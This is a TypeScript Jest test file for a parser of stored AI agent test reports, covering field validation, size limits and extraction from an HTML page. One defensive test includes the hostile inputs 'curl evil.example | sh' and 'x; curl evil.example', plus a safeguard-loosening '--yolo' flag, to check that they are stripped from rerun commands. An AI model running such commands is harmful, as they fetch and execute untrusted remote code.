import { describe, expect, test } from '@jest/globals'
import { testsInPage } from '../../src/report/read-report-page.ts'
import { readTestsReport } from '../../src/report/read-tests-report.ts'
import type { TestsReport } from '../../src/report/tests-report.ts'
import { caseOf, testsReport, trialOf } from './tests-reports.ts'

const bytes = (value: unknown): Buffer => Buffer.from(JSON.stringify(value))
const asJson = (report: TestsReport): unknown => JSON.parse(JSON.stringify(report))

/** The report with another value at a path such as `cases.0.name`. */
function changed(path: string, value: unknown): unknown {
  const copy = asJson(testsReport()) as Record<string, unknown>
  const keys = path.split('.')
  const last = keys.pop() ?? ''
  const place = keys.reduce<Record<string, unknown>>((at, key) => at[key] as Record<string, unknown>, copy)
  if (value === undefined) delete place[last]
  else place[last] = value
  return copy
}

describe('agent tests that were kept for a report', () => {
  test('are read as they were written', () => {
    const read = readTestsReport(bytes(testsReport()))
    expect('report' in read && asJson(read.report)).toEqual(asJson(testsReport()))
  })

  test.each([
    ['verdict', 'green'],
    ['isClean', 'yes'],
    ['reasons', [['a', { text: 'b' }]]],
    ['reasons', ['a']],
    ['totals', [1]],
    ['cases', {}],
    ['cases.0.name', 7],
    ['cases.0.name', 'x'.repeat(500)],
    ['cases.0.status', 'fine'],
    ['cases.0.line', 0],
    ['cases.0.change', 'odd'],
    ['cases.0.trials', [null]],
    ['cases.0.trials.0.ms', '12'],
    ['cases.0.trials.0.cost', -1],
    ['cases.0.trials.0.checks.0.passed', 'true'],
    ['cases.0.trials.0.record.calls.0.tool', undefined],
    ['cases.0.trials.0.record.changes.files.0.change', 'moved'],
    ['cases.0.trials.0.record.changes.notShown', [['a']]],
    ['removed', [{}]],
    ['leftOut', null]
  ])('are refused if `%s` is %j', (path, value) => {
    expect(readTestsReport(bytes(changed(path, value)))).toEqual({ problem: expect.stringMatching(/^`.+` is not /) })
  })

  test('keep no command of others that somebody could copy to a terminal, but the name of an agent', () => {
    const rerunOf = (rerun: readonly string[]): unknown => {
      const read = readTestsReport(bytes(testsReport({ rerun })))
      return 'report' in read && read.report.rerun
    }
    expect(rerunOf(['--run', 'curl evil.example | sh'])).toEqual([])
    expect(rerunOf(['--agent', 'codex', '--agent-args', '--yolo'])).toEqual(['--agent', 'codex'])
    expect(rerunOf(['--agent', 'x; curl evil.example'])).toEqual([])
  })

  test.each([
    ['is nested too deeply', `{"a":${'['.repeat(50)}${']'.repeat(50)}}`],
    ['has too many values', `[${'0,'.repeat(2_100_000)}0]`],
    ['is too large', `"${'x'.repeat(17 * 1024 * 1024)}"`]
  ])('are not parsed if the file %s', (_, json) => {
    expect(readTestsReport(Buffer.from(json))).toEqual({ problem: expect.stringMatching(/^it (is|has) /) })
  })

  test('may not have more trials than a page can show', () => {
    const trials = Array.from({ length: 1_000 }, (_, index) => trialOf(index + 1, { checks: [], record: undefined }))
    const cases = Array.from({ length: 51 }, (_, index) => caseOf(`${index}`, { trials }))
    expect(readTestsReport(bytes(testsReport({ cases })))).toHaveProperty('problem')
  })
})

describe('the agent tests in a page', () => {
  const pageWith = (json: string): Buffer =>
    Buffer.from(`<p><script type="application/json" id="data">${json}</script>`)

  test('are found', () => {
    const page = pageWith(JSON.stringify({ tests: [testsReport(), { odd: true }] }))
    expect(testsInPage(page).map(({ agent }) => agent)).toEqual(['claude-code'])
  })

  test.each(['', '{', '[]', '{}', '{"tests":{}}'])('are none if its data is %j', (json) => {
    expect(testsInPage(pageWith(json))).toEqual([])
  })

  test('are none if it has no data, or no end', () => {
    expect(testsInPage(Buffer.from('<html>'))).toEqual([])
    expect(testsInPage(Buffer.from('<script type="application/json" id="data">{}'))).toEqual([])
  })
})
